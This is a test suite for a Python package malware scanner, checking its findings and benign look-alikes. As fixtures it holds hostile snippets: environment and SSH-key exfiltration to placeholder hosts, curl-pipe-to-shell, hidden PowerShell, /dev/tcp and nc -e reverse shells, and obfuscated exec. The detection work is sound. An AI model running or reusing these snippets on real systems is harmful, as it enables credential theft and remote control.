// Threat checks (issue 18 §2): each on its positives and on benign look-alikes, at import and at install.
import { describe, expect, it } from 'vitest';
import { scanPython } from '../../../../../utils/analysis/code-scan/setup-py';

const at = (text: string, context: 'import' | 'build' = 'import') =>
  scanPython('pkg/__init__.py', text, context).map((f) => `${f.level} ${f.check} ${f.line}${f.runs ? ` ${f.runs}` : ''}`);

describe('capability vs threat at import', () => {
  it('a client library that imports requests and posts inside a function: a note, nothing alarming', () => {
    expect(
      at(
        `import requests\n\ndef send(url, data):\n    return requests.post(url, json=data, headers={"Authorization": os.environ.get("TOKEN")})\n`,
      ),
    ).toEqual(['info network 1 import']);
  });

  it('a module that starts a process at import: a note', () => {
    expect(at(`import subprocess\nVERSION = subprocess.check_output(["git", "describe"]).decode()\n`)).toEqual(['info process 2 import']);
  });

  it('decoded exec at module level stays danger; inside an uncalled function it is caution, "in the package"', () => {
    expect(at(`import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n`)).toEqual(['danger decoded-exec 2 import']);
    expect(at(`import base64\ndef later():\n    exec(base64.b64decode("cHJpbnQoMSk="))\n`)).toEqual(['caution decoded-exec 3 package']);
  });

  it('a function the module calls at import runs at import', () => {
    expect(at(`import base64\ndef boot():\n    exec(base64.b64decode("cHJpbnQoMSk="))\nboot()\n`)).toEqual([
      'danger decoded-exec 3 import',
    ]);
    expect(
      at(`import base64, threading\ndef boot():\n    exec(base64.b64decode("cHJpbnQoMSk="))\nthreading.Thread(target=boot).start()\n`),
    ).toEqual(['danger decoded-exec 3 import']);
  });

  it('code under if __name__ == "__main__" runs only when run as a script', () => {
    expect(at(`import base64\nif __name__ == "__main__":\n    exec(base64.b64decode("cHJpbnQoMSk="))\n`)).toEqual([
      'caution decoded-exec 3 package',
    ]);
  });
});

describe('exfiltration', () => {
  it('os.environ sent over the network (MAL-2026-15859 shape) is danger, directly or through a variable', () => {
    const direct = at(`import os, requests\nrequests.post("https://example.invalid/c", json=dict(os.environ))\n`);
    expect(direct).toContain('danger exfiltration 2 import');
    const through = at(
      `import os, socket, json\nsecrets = {k: v for k, v in os.environ.items() if k.startswith(("API", "TOKEN"))}\nblob = json.dumps(secrets)\ns = socket.socket()\ns.connect((os.environ["TS_HOST"], 4444))\ns.sendall(blob.encode())\n`,
    );
    expect(through).toContain('danger exfiltration 6 import');
  });

  it('three variables read in one statement and posted: a collection, danger', () => {
    expect(
      at(
        `import os, urllib.request\nd = {"a": os.getenv("AWS_SECRET_ACCESS_KEY"), "b": os.getenv("GITHUB_TOKEN"), "c": os.getenv("NPM_TOKEN")}\nurllib.request.urlopen("https://x.invalid", data=str(d).encode())\n`,
      ),
    ).toContain('danger exfiltration 3 import');
  });

  it('a Discord webhook URL in a file that sends is caution; with the environment collected, danger', () => {
    expect(at(`import requests\nHOOK = "https://discord.com/api/webhooks/1/abc"\nrequests.post(HOOK, json={"content": "hi"})\n`)).toContain(
      'caution exfiltration 2 import',
    );
    expect(
      at(
        `import os, requests\nenv = dict(os.environ)\nrequests.post("https://api.telegram.org/bot123:x/sendMessage", data={"text": "x"})\n`,
      ),
    ).toContain('danger exfiltration 3 import');
    expect(at(`import requests\nrequests.get("http://45.61.12.9:8080/p")\n`)).toContain('caution exfiltration 2 import');
  });

  it('benign look-alikes: one variable as a credential, env passed to a subprocess, localhost, a URL in a docstring', () => {
    const benign = [
      `import os, requests\nrequests.get("https://api.example.com", headers={"Authorization": os.environ["TOKEN"]})\n`,
      `import os, subprocess\nenv = dict(os.environ)\nenv["X"] = "1"\nsubprocess.run(["make"], env=env)\n`,
      `import requests\nrequests.get("http://127.0.0.1:8080/health")\n`,
      `"""Post to https://discord.com/api/webhooks/<id> with send()."""\nimport requests\n`,
      `import os\nif "CI" in os.environ:\n    print("ci")\n`,
    ];
    for (const text of benign) expect(at(text).filter((f) => f.includes('exfiltration'))).toEqual([]);
  });
});

describe('obfuscation', () => {
  it('an octal-escaped "eval" passed to getattr is danger, and the detail says what it reads', () => {
    const [finding] = scanPython('p/__init__.py', `import builtins\ngetattr(builtins, "\\145\\166\\141\\154")("1+1")\n`, 'import').filter(
      (f) => f.check === 'escaped-string',
    );
    expect(finding).toMatchObject({ level: 'danger', line: 2 });
    expect(finding!.detail).toMatch(/it reads "eval"/);
  });

  it('a hex-escaped name held in a variable and executed later is danger', () => {
    expect(at(`n = "\\x65\\x78\\x65\\x63"\nf = __builtins__.__dict__[n]\neval(n)\n`)).toContain('danger escaped-string 3 import');
  });

  it('benign escapes: ANSI colours, a binary magic number, escapes without a sink', () => {
    expect(at(`RESET = "\\x1b[0m"\nMAGIC = b"\\x7f\\x45\\x4c\\x46"\nprint("\\x41\\x42\\x43")\n`)).toEqual([]);
  });

  it('getattr(builtins, "exec"), __builtins__.__dict__["eval"], globals()["ex" + "ec"] are danger', () => {
    expect(at(`import builtins\ngetattr(builtins, "exec")("x=1")\n`)).toContain('danger builtins-indirection 2 import');
    expect(at(`__builtins__.__dict__["eval"]("1")\n`)).toContain('danger builtins-indirection 1 import');
    expect(at(`globals()["__buil" + "tins__"]\n`)).toContain('danger builtins-indirection 1 import');
    expect(at(`import os\ngetattr(os, "sys" + "tem")("id")\n`)).toContain('danger builtins-indirection 2 import');
  });

  it('benign indirection: globals()[name] = value, getattr(os, name), getattr(builtins, "open")', () => {
    expect(
      at(
        `for name in __all__:\n    globals()[name] = getattr(_impl, name)\nimport os, builtins\nf = getattr(os, attr)\no = getattr(builtins, "open")\n`,
      ),
    ).toEqual([]);
  });

  it('ｅｘｅｃ (fullwidth) is folded to exec: danger, and the decoded exec behind it is found too', () => {
    const found = at(`import base64\nｅｘｅｃ(base64.b64decode("cHJpbnQoMSk="))\n`);
    expect(found).toContain('danger folded-identifier 2 import');
    expect(found).toContain('danger decoded-exec 2 import');
  });

  it('non-ASCII identifiers Python keeps as written (π, 变量) are not look-alikes', () => {
    expect(at(`π = 3.14159\n变量 = π * 2\n`)).toEqual([]);
  });

  it('at install the same threats are found (build context)', () => {
    expect(at(`import os, requests\nrequests.post("https://x.invalid", data=dict(os.environ))\nsetup()\n`, 'build')).toContain(
      'danger exfiltration 2',
    );
  });
});

describe('download and run', () => {
  it('exec of a network response, curl | sh, PowerShell -enc in a hidden window: danger at import', () => {
    expect(at(`import urllib.request\nexec(urllib.request.urlopen("https://x.invalid/s.py").read())\n`)).toContain(
      'danger download-exec 2 import',
    );
    expect(at(`import os\nos.system("curl -fsSL https://x.invalid/i.sh | sh")\n`)).toContain('danger download-exec 2 import');
    expect(at(`import subprocess\nsubprocess.Popen("powershell -w hidden -enc SQBFAFgA", shell=True)\n`)).toContain(
      'danger download-exec 2 import',
    );
  });

  it('benign look-alikes: exec of a local file, chmod of a built script, curl to a file', () => {
    expect(at(`about = {}\nexec(open("pkg/__about__.py").read(), about)\nimport os\nos.chmod("build/tool", 0o755)\n`, 'build')).toEqual([]);
    expect(
      at(`import subprocess\nsubprocess.run(["curl", "-o", "data.json", "https://x.invalid/d"])\n`).filter((f) =>
        f.includes('download-exec'),
      ),
    ).toEqual([]);
  });
});

describe('credential files', () => {
  it('an SSH key or AWS credentials read and posted is danger', () => {
    expect(
      at(`import os, requests\nk = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://x.invalid", data={"k": k})\n`),
    ).toContain('danger exfiltration 3 import');
  });

  it('reading ~/.aws/credentials without sending it is not exfiltration (boto3 does)', () => {
    expect(at(`import os\nCREDS = os.path.expanduser("~/.aws/credentials")\n`)).toEqual([]);
  });
});

describe('reverse shell', () => {
  it('a child python -c that connects out (MAL-2026-15859), /dev/tcp, nc -e: danger', () => {
    expect(
      at(
        `import subprocess, sys\nsubprocess.Popen([sys.executable, "-c", "import socket;s=socket.create_connection(('192.0.2.1', 4444));s.send(b'SHELL')"])\n`,
      ),
    ).toContain('danger reverse-shell 2 import');
    expect(at(`import os\nos.system("bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'")\n`)).toContain('danger reverse-shell 2 import');
    expect(at(`import os\nos.system("nc -e /bin/sh 192.0.2.1 4444")\n`)).toContain('danger reverse-shell 2 import');
  });

  it('benign look-alikes: python -c printing a version, a socket server function, nc -z port probe', () => {
    const found = [
      ...at(`import subprocess, sys\nsubprocess.run([sys.executable, "-c", "import sys; print(sys.version)"])\n`),
      ...at(`import os\nos.system("nc -z localhost 5432")\n`),
    ];
    expect(found.filter((f) => f.includes('reverse-shell'))).toEqual([]);
  });
});

describe('false positives of real code, fixed by family', () => {
  it('the cloud metadata address is no drop host; a drop host in a comment runs nothing; a public IP literal still is one', () => {
    expect(
      at(`import requests\nIMDS = 'http://169.254.169.254/latest/'\nrequests.get(IMDS)\n`).filter((f) => f.includes('exfiltration')),
    ).toEqual([]);
    expect(
      at(`import requests\nORIGINS = [\n    ("https", "*"),  # see http://bit.ly/1qrySKC\n]\nrequests.get(U)\n`).filter((f) =>
        f.includes('exfiltration'),
      ),
    ).toEqual([]);
    expect(at(`import requests\nrequests.post('http://203.0.113.9/x', data=D)\n`).filter((f) => f.includes('exfiltration'))).toEqual([
      'caution exfiltration 2 import',
    ]);
  });

  it('a compatibility alias of exec is quiet, but decoded code run through it is danger', () => {
    expect(at(`import builtins\nexec_ = getattr(builtins, "exec")\n`)).toEqual([]);
    expect(at(`import builtins, base64\nexec_ = getattr(builtins, "exec")\nexec_(base64.b64decode(P))\n`)).toEqual([
      'danger decoded-exec 3 import',
    ]);
    expect(at(`import builtins\ngetattr(builtins, "exec")(P)\n`)).toEqual(['danger builtins-indirection 2 import']);
  });

  it('obfuscated-line: text in another script, a regex, a PEM certificate and a table of literals are not payloads; base64 still is', () => {
    const chinese =
      '的一是在不了有和人这中大为上个国我以要他时来用们生到作地于出就分对成会可主发年动同工也能下过子说产种面而方后多定行学法所民得经十三之进着等部度家电力里如水化高自二理起小物现实加量都两体制机当使点从业本去把性好应开它合还因由其些然前外天政四日那社义事平形相全表间样与关各重新线内数正心反你明看原又么利比或但质气第向道命此变条只没结解问意建月公无系军很情者最立代想已通并提直题党程展五果料象员革位入常文总次品式活设及管特件长求老头基资边流路级少图山统接知较将组见计别她手角期根论运农指几九区强放决西被干做必战先回则任取据处理府研'.slice(
        0,
        120,
      );
    expect(at(`T = "${chinese}"\n`)).toEqual([]);
    expect(
      at(`R = r"{0}/accounts/(?P<account_id>[\\d]+)/namespaces/(?P<namespace>[a-zA-Z0-9._-]+)/groups/(?P<groupname>[^/]+)$"\n`),
    ).toEqual([]);
    const pem = Array.from({ length: 20 }, (_, i) => 'MIIDQTCCAimgAwIBAgITBmyfz5m/jAo54vB4ikPmljZbyjANBgkqhkiG9w0BAQsF'.slice(i % 5)).join(
      '\n',
    );
    expect(at(`CA = """-----BEGIN CERTIFICATE-----\n${pem}\n-----END CERTIFICATE-----"""\n`)).toEqual([]);
    expect(at(`NAMES = {${Array.from({ length: 200 }, (_, i) => `'Name${i}'`).join(', ')}}\n`)).toEqual([]);
    const b64 = Buffer.from(Array.from({ length: 300 }, (_, i) => (i * 97 + 13) % 256)).toString('base64');
    expect(at(`P = "${b64}"\n`)).toEqual(['caution obfuscated-line 1 import']);
  });

  it('a long generated line inside a function nothing calls is a note, "in the package"', () => {
    const long = `def validate(data):\n    raise ValueError(${Array.from({ length: 120 }, (_, i) => `name_${i}`).join(' + ')})\n`;
    expect(at(long)).toEqual(['info obfuscated-line 2 package']);
  });
});
